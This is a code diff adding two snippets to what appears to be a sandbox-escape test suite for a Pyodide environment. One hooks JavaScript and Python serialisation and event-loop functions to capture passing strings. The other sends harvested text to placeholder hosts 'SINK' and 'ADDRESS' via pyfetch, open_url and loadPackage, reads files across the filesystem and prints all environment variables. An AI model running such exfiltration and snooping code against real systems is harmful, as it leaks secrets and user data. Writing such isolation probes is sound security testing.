@@ -223,4 +223,68 @@ for name in ("own/one", "own/one/..", "constructor", "__proto__", ""):
     try: print(await ask(name, Chat(messages=(user("Hi"),))))
     except BaseException as e: print(e)
 """,
+    "hooks under JSON, promises and asyncio": """
+import js, asyncio, json
+from pyodide.code import run_js
+from pyodide.ffi import create_proxy
+seen = []
+keep = create_proxy(lambda text: seen.append(str(text)))
+HOOKS = '''
+(keep) => {
+    for (const [owner, name] of [[JSON, "parse"], [JSON, "stringify"], [Map.prototype, "set"],
+                                 [Map.prototype, "get"], [Promise.prototype, "then"]]) {
+        const real = owner[name];
+        owner[name] = function (...given) {
+            try { for (const each of given) if (typeof each === "string") keep(each); } catch {}
+            return real.apply(this, given);
+        };
+    }
+}'''
+for way in (run_js, js.eval):
+    try: way("(" + HOOKS.strip() + ")")(keep); break
+    except BaseException as e: print(type(e).__name__)
+loads, dumps = json.loads, json.dumps
+json.loads = lambda text, *a, **k: (seen.append(str(text)), loads(text, *a, **k))[1]
+json.dumps = lambda value, *a, **k: (seen.append(repr(value)), dumps(value, *a, **k))[1]
+loop = asyncio.get_running_loop()
+real = loop.call_soon
+loop.call_soon = lambda call, *a, **k: (seen.append(repr((call, a))), real(call, *a, **k))[1]
+r = await compare("Hi")
+await asyncio.sleep(0.5)
+print(len(seen), seen, r[0].text)
+""",
+    "pyodide's own fetch, packages and files": """
+import js, os, io, contextlib
+from urllib.parse import quote
+await compare("Hi")
+"""
+    + _HARVEST
+    + """
+out = quote(text[-1500:])
+try:
+    from pyodide.http import pyfetch, open_url
+    for send in (lambda: pyfetch(f"SINK/pyfetch?{out}"), lambda: pyfetch(f"ADDRESS/?{out}"),
+                 lambda: pyfetch(f"SINK/body", method="POST", body=text, mode="no-cors")):
+        try: print(await send())
+        except BaseException as e: print(type(e).__name__)
+    try: print(open_url(f"SINK/open_url?{out}").read())
+    except BaseException as e: print(type(e).__name__)
+except ImportError as e: print(e)
+try:
+    import pyodide_js
+    for send in (lambda: pyodide_js.loadPackage(f"SINK/package-1-py3-none-any.whl?{out}"),
+                 lambda: pyodide_js.loadPackage("micropip")):
+        try: print(await send())
+        except BaseException as e: print(type(e).__name__)
+    try: print(await pyodide_js.mountNativeFS("/mnt", await js.navigator.storage.getDirectory()))
+    except BaseException as e: print(type(e).__name__)
+except ImportError as e: print(e)
+for folder, _, names in os.walk("/"):
+    if folder.startswith(("/proc", "/sys", "/dev", "/lib")): continue
+    for name in names:
+        with contextlib.suppress(Exception):
+            content = open(os.path.join(folder, name), "rb").read(200_000)
+            print(folder, name, len(content), content[:2000])
+print(dict(os.environ))
+""",
 }
